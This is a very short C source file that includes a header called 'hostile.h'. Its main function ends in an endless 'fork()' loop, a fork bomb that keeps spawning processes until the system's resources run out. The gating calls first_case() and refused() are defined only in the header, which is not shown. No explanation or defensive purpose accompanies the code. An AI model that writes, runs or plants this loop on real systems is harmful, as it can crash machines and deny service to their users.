#include "hostile.h"

int main(void) {
    if (first_case()) return refused();
    for (;;) fork();
}
